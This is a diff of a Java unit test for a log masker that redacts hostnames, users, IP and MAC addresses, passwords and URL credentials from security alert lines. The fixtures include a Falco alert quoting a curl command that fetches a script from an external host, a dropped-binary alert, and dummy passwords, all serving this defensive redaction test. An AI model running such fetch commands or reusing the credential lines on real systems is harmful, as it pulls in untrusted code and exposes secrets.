@@ -38,25 +38,25 @@ class RegexMaskerTest {
                                 + "container_id=9f2c1d4e5b6a image=registry.example.com/shop/api:2.4.1)",
                         "Disallowed outbound connection destination (command=curl -s http://[EXTERNAL-IP-1]:8080/x.sh "
                                 + "connection=[INTERNAL-IP-1]:51234->[EXTERNAL-IP-1]:8080 user=www-data "
-                                + "container_id=[CONTAINER-1] image=registry.example.com/shop/api:2.4.1)"),
+                                + "container_id=[CONTAINER-1] image=[HOST-1]/shop/api:2.4.1)"),
                 arguments("falco proc fields and a file hash outside any container context",
                         "Drop and execute new binary (proc.name=x proc.exepath=/tmp/x sha256=" + SHA256 + ")",
                         "Drop and execute new binary (proc.name=x proc.exepath=/tmp/x sha256=" + SHA256 + ")"),
                 arguments("sshd failed password",
                         "Jan 12 03:14:07 web-01 sshd[2211]: Failed password for invalid user admin from "
                                 + "198.51.100.23 port 52144 ssh2",
-                        "Jan 12 03:14:07 web-01 sshd[2211]: Failed password for invalid user admin from "
+                        "Jan 12 03:14:07 [HOST-1] sshd[2211]: Failed password for invalid user [USER-1] from "
                                 + "[EXTERNAL-IP-1] port 52144 ssh2"),
                 arguments("sudo with a password on the command line",
                         "Mar  3 10:00:01 db-02 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                                 + "COMMAND=/usr/bin/mysql -u root --password=S3cr3t! -h 10.20.30.40",
-                        "Mar  3 10:00:01 db-02 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
+                        "Mar  3 10:00:01 [HOST-1] sudo:    [USER-1] : TTY=pts/0 ; PWD=/home/[USER-1] ; USER=root ; "
                                 + "COMMAND=/usr/bin/mysql -u root --password=[REDACTED-PASSWORD] -h [INTERNAL-IP-1]"),
                 arguments("sonicwall IPv6 and MAC",
                         "msg=\"Unhandled link-local or multicast IPv6 packet dropped\" srcV6=fe80::9851:b780:9d9d:a29e "
                                 + "src=:49702:X0-V514 dstV6=ff02::1:3 dst=:5355 srcMac=90:e6:ba:32:5c:45",
                         "msg=\"Unhandled link-local or multicast IPv6 packet dropped\" srcV6=[INTERNAL-IP-1] "
-                                + "src=:49702:X0-V514 dstV6=[INTERNAL-IP-2] dst=:5355 srcMac=90:e6:ba:32:5c:45"),
+                                + "src=:49702:X0-V514 dstV6=[INTERNAL-IP-2] dst=:5355 srcMac=[MAC-1]"),
                 arguments("sonicwall IPv4 with interface suffix",
                         "src=10.12.14.9::X0-V500 dst=217.56.236.4::X3 proto=icmp",
                         "src=[INTERNAL-IP-1]::X0-V500 dst=[EXTERNAL-IP-1]::X3 proto=icmp"),
@@ -79,7 +79,7 @@ class RegexMaskerTest {
                         "proxy: connect to [[EXTERNAL-IP-1]]:443 from [[INTERNAL-IP-1]]:5555 failed"),
                 arguments("database URL with credentials",
                         "app crashed: could not connect to postgres://shop:hunter2@10.1.2.3:5432/orders",
-                        "app crashed: could not connect to postgres://[REDACTED-URL_CREDENTIALS]@[INTERNAL-IP-1]"
+                        "app crashed: could not connect to postgres://[USER-1]:[REDACTED-URL_CREDENTIALS]@[INTERNAL-IP-1]"
                                 + ":5432/orders"),
                 arguments("kernel and package versions",
                         VERSIONS, VERSIONS),
@@ -96,7 +96,7 @@ class RegexMaskerTest {
     @MethodSource("realisticLines")
     void masksRealisticAlertLines(String name, String line, String expected) {
         // when
-        Masking masking = masker.mask(TestAlerts.message(line));
+        Masking masking = masker.mask(TestAlerts.withoutHost(line));
 
         // then
         assertThat(masking.alert().message()).isEqualTo(expected);
